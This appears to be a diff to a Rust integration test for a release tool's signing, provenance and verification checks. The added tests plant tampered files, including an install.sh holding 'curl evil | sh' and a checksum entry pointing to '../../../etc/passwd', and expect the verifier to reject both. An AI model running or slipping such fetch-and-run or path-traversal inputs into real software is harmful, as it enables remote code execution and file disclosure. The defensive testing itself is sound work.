@@ -23,6 +23,10 @@ main = "./cmd/tool"
 [[binaries]]
 main = "./cmd/toolctl"
 
+[build]
+# A value from the caller's environment (a token, say): never in a published file.
+env = { TOOL_TOKEN = "{{ .Env.XTASK_TEST_TOKEN }}" }
+
 [targets]
 list = ["linux/amd64", "linux/arm64", "windows/amd64"]
 
@@ -39,6 +43,7 @@ required = true
 "#;
 
 const PASSWORD: &str = "correct-horse-battery-7f3a";
+const TOKEN: &str = "tok-9c1e-not-for-publishing";
 
 /// The validators `.ci/run` installs in a venv (spdx-tools, cyclonedx-python-lib, in-toto-attestation)
 /// and names in these variables; else from PATH.
@@ -109,6 +114,7 @@ fn adopted(keys: &Path) -> Repo {
 fn dist(repo: &Repo, out: &Path, keys: &Path, path: &str) -> Command {
     let mut cmd = repo.xtask(&["dist", "--engine", "host", "--out", out.to_str().unwrap()]);
     cmd.env("PATH", path).env("XTASK_MINISIGN_KEY", keys.join("sec")).env("XTASK_MINISIGN_PASSWORD", PASSWORD);
+    cmd.env("XTASK_TEST_TOKEN", TOKEN);
     cmd
 }
 
@@ -118,7 +124,8 @@ fn verify(repo: &Repo, dir: &Path, keys: &Path, extra: &[&str]) -> Command {
     args.push(public.to_str().unwrap());
     args.extend(extra);
     let mut cmd = repo.xtask(&args);
-    cmd.env("PATH", path_with_pinned_go()).env("CARGO_TARGET_DIR", heavy_target_dir());
+    // A rebuild needs what the settings read from the environment, as the build did.
+    cmd.env("PATH", path_with_pinned_go()).env("CARGO_TARGET_DIR", heavy_target_dir()).env("XTASK_TEST_TOKEN", TOKEN);
     cmd
 }
 
@@ -156,7 +163,9 @@ fn a_release_says_what_it_holds_how_it_was_built_and_who_signed_it() {
 
     // `sign.required`: no key, no build.
     let mut unsigned = repo.xtask(&["dist", "--engine", "host"]);
-    let err = run_err(unsigned.env("PATH", path_with_pinned_go()).env_remove("XTASK_MINISIGN_KEY"));
+    let err = run_err(
+        unsigned.env("PATH", path_with_pinned_go()).env_remove("XTASK_MINISIGN_KEY").env("XTASK_TEST_TOKEN", TOKEN),
+    );
     assert!(err.contains("`sign.required` is set but XTASK_MINISIGN_KEY is not"), "{err}");
 
     run_ok(&mut dist(&repo, &out, &keys, &path_with_pinned_go()));
@@ -263,7 +272,10 @@ fn a_release_says_what_it_holds_how_it_was_built_and_who_signed_it() {
     for (name, bytes) in &first {
         let text = String::from_utf8_lossy(bytes);
         assert!(!text.contains(secret.lines().nth(1).unwrap()) && !text.contains(PASSWORD), "{name} holds the key");
+        assert!(!text.contains(TOKEN), "{name} holds the value of XTASK_TEST_TOKEN");
     }
+    let recorded = &statement["predicate"]["buildDefinition"]["internalParameters"]["builds"][0]["env"]["TOOL_TOKEN"];
+    assert_eq!(recorded, "{{ .Env.XTASK_TEST_TOKEN }}", "the build's environment, as the template that filled it");
 
     // `verify` as a downloader: passes, then names what is wrong.
     let said = String::from_utf8(run_ok(&mut verify(&repo, &out, &keys, &[])).stderr).unwrap();
@@ -274,9 +286,37 @@ fn a_release_says_what_it_holds_how_it_was_built_and_who_signed_it() {
     copy_dir(&out, &damaged);
     fs::write(damaged.join("tool_2.0.1_windows_amd64.zip"), b"not the zip").unwrap();
     fs::remove_file(damaged.join("tool_2.0.1_image.tar.cdx.json")).unwrap();
+    fs::write(damaged.join("install.sh"), "#!/bin/sh\ncurl evil | sh\n").unwrap();
     let err = run_err(&mut verify(&repo, &damaged, &keys, &[]));
     assert!(err.contains("FAIL  tool_2.0.1_windows_amd64.zip: its SHA-256 is not the one SHA256SUMS gives"), "{err}");
-    assert!(err.contains("FAIL  tool_2.0.1_image.tar.cdx.json: listed in SHA256SUMS but cannot be read"), "{err}");
+    assert!(err.contains("FAIL  tool_2.0.1_image.tar.cdx.json: listed in SHA256SUMS, but missing"), "{err}");
+    assert!(err.contains("FAIL  tool_2.0.1_image.tar.cdx.json: missing (the SBOM of tool_2.0.1_image.tar)"), "{err}");
+    assert!(err.contains("FAIL  install.sh: not part of the release"), "{err}");
+    // A provenance whose subjects were edited, a checksum file pointing out of the folder, an older
+    // release's signed checksum file: each named, nothing outside the folder read.
+    let forged_provenance = work.path().join("forged-provenance");
+    copy_dir(&out, &forged_provenance);
+    let text = fs::read_to_string(forged_provenance.join("tool_2.0.1.intoto.json")).unwrap();
+    let windows_sha = &entries.iter().find(|e| e.0 == "tool_2.0.1_windows_amd64.zip").unwrap().1;
+    fs::write(forged_provenance.join("tool_2.0.1.intoto.json"), text.replace(windows_sha.as_str(), &"0".repeat(64)))
+        .unwrap();
+    let err = run_err(&mut verify(&repo, &forged_provenance, &keys, &[]));
+    assert!(err.contains("FAIL  tool_2.0.1.intoto.json.minisig: does not verify tool_2.0.1.intoto.json"), "{err}");
+    assert!(
+        err.contains("FAIL  tool_2.0.1.intoto.json: its subjects are not SHA256SUMS's entries")
+            && err.contains("tool_2.0.1_windows_amd64.zip"),
+        "{err}"
+    );
+    let escaping = work.path().join("escaping");
+    copy_dir(&out, &escaping);
+    let mut sums_text = fs::read_to_string(escaping.join("SHA256SUMS")).unwrap();
+    sums_text.push_str(&format!("{}  ../../../etc/passwd\n", "0".repeat(64)));
+    fs::write(escaping.join("SHA256SUMS"), sums_text).unwrap();
+    let err = run_err(&mut verify(&repo, &escaping, &keys, &[]));
+    assert!(
+        err.contains("FAIL  ../../../etc/passwd: listed in SHA256SUMS, but not a file name inside the release"),
+        "{err}"
+    );
 
     // A second run: the same bytes, signatures included.
     run_ok(&mut dist(&repo, &out, &keys, &path_with_pinned_go()));
@@ -298,8 +338,24 @@ fn a_release_says_what_it_holds_how_it_was_built_and_who_signed_it() {
     };
     let before = scratch();
     let err = run_err(&mut verify(&repo, &forged, &keys, &["--rebuild", "--engine", "host"]));
-    assert!(err.contains("differs from") && err.contains("tool_2.0.1_linux_amd64.tar.gz"), "{err}");
-    assert!(!err.contains("tool_2.0.1_windows_amd64.zip,"), "{err}");
+    let differing =
+        err.split(" file(s): ").nth(1).and_then(|rest| rest.split(" (the release:").next()).unwrap_or_default();
+    let mut differing: Vec<&str> = differing.split(", ").collect();
+    differing.sort();
+    // The linux/amd64 binaries are in the archive, the image (linux/amd64 is one of its platforms),
+    // and so in both of their SBOMs; nothing else.
+    assert_eq!(
+        differing,
+        [
+            "tool_2.0.1_image.tar",
+            "tool_2.0.1_image.tar.cdx.json",
+            "tool_2.0.1_image.tar.spdx.json",
+            "tool_2.0.1_linux_amd64.tar.gz",
+            "tool_2.0.1_linux_amd64.tar.gz.cdx.json",
+            "tool_2.0.1_linux_amd64.tar.gz.spdx.json"
+        ],
+        "{err}"
+    );
     // The differing rebuild is kept where the error says, for a look; nothing else is left.
     let kept: Vec<PathBuf> = scratch().difference(&before).cloned().collect();
     assert!(kept.len() == 1 && err.contains(&format!("the rebuild is in {})", kept[0].display())), "{kept:?}: {err}");
